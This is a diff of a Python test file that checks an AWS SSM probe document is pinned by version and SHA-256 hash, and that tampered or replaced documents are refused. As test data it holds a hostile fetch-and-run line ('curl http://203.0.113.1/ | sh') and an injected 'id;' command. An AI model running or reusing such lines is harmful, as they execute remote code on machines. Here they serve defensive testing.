@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import hashlib
+import json
 from typing import TYPE_CHECKING
 
 import boto3
@@ -9,8 +11,16 @@ import pytest
 from botocore.exceptions import ReadTimeoutError
 from botocore.stub import Stubber
 
-from cce.errors import CceError, InvalidInstancesError, MemberError, ThrottledError, UnansweredError
+from cce.errors import (
+    CceError,
+    DocumentError,
+    InvalidInstancesError,
+    MemberError,
+    ThrottledError,
+    UnansweredError,
+)
 from cce.fleet.members import AwsMember, AwsMembers, Credentials, Probe
+from cce.probes import packed_probe
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -25,8 +35,19 @@ CREDENTIALS: Credentials = {
 IDS = ["i-0123456789abcdef0", "i-0123456789abcdef1"]
 
 
+def document(script: str) -> str:
+    step = {"action": "aws:runShellScript", "name": "probe", "inputs": {"runCommand": [script]}}
+    return json.dumps({"schemaVersion": "2.2", "description": "probe", "mainSteps": [step]})
+
+
 @pytest.fixture
 def member(aws: None) -> AwsMember:  # noqa: ARG001 - it is there
+    boto3.client("ssm").create_document(
+        Name="cce-fleet-linux",
+        Content=document(packed_probe()),
+        DocumentType="Command",
+        DocumentFormat="JSON",
+    )
     return AwsMember(CREDENTIALS, ACCOUNT, Probe("cce-fleet-linux", 600, "data"))
 
 
@@ -60,6 +81,9 @@ def test_a_probe_is_sent_to_all_even_if_one_fails_and_carries_the_assessment(
 ) -> None:
     expected = {
         "DocumentName": "cce-fleet-linux",
+        "DocumentVersion": "1",
+        "DocumentHash": hashlib.sha256(document(packed_probe()).encode()).hexdigest(),
+        "DocumentHashType": "Sha256",
         "InstanceIds": IDS,
         "Comment": "20261122T013000Z-7f3a",
         "TimeoutSeconds": 600,
@@ -71,6 +95,47 @@ def test_a_probe_is_sent_to_all_even_if_one_fails_and_carries_the_assessment(
     sending.add_response("send_command", {"Command": {"CommandId": "c" * 36}}, expected)
 
     assert "c" * 36 == member.send_probe(IDS, "20261122T013000Z-7f3a")
+
+
+@pytest.mark.parametrize(
+    ("script", "why"),
+    [
+        ("echo hello", "not the launcher"),
+        (packed_probe() + "\ncurl http://203.0.113.1/ | sh", "not the launcher"),
+        (packed_probe().replace("exec /bin/sh", "id; exec /bin/sh"), "not the launcher"),
+    ],
+)
+def test_another_document_is_not_sent(member: AwsMember, sending: Stubber, script: str, why: str) -> None:
+    boto3.client("ssm").update_document(
+        Name="cce-fleet-linux", Content=document(script), DocumentVersion="$LATEST", DocumentFormat="JSON"
+    )
+    boto3.client("ssm").update_document_default_version(Name="cce-fleet-linux", DocumentVersion="2")
+
+    with pytest.raises(DocumentError, match=f"version 2 of account {ACCOUNT}.*{why}.*deploy this release"):
+        member.send_probe(IDS, "20261122T013000Z-7f3a")
+    sending.assert_no_pending_responses()
+
+
+def test_an_account_without_the_document_is_told_so(member: AwsMember) -> None:
+    boto3.client("ssm").delete_document(Name="cce-fleet-linux")
+
+    with pytest.raises(DocumentError, match="has no document cce-fleet-linux; deploy this release"):
+        member.send_probe(IDS, "20261122T013000Z-7f3a")
+
+
+def test_a_document_replaced_after_it_was_looked_at_is_looked_at_again(
+    member: AwsMember, sending: Stubber
+) -> None:
+    """SSM refuses the hash of the former one; the second look finds a stranger's."""
+    sending.add_response("send_command", {"Command": {"CommandId": "c" * 36}})
+    member.send_probe(IDS, "20261122T013000Z-7f3a")
+    ssm = boto3.client("ssm")
+    ssm.delete_document(Name="cce-fleet-linux")
+    ssm.create_document(Name="cce-fleet-linux", Content=document("id"), DocumentType="Command")
+
+    sending.add_client_error("send_command", "InvalidDocument", "hash", http_status_code=400)
+    with pytest.raises(DocumentError, match="not the launcher"):
+        member.send_probe(IDS, "20261122T013000Z-7f3a")
 
 
 def test_send_command_is_never_tried_again_by_the_client(
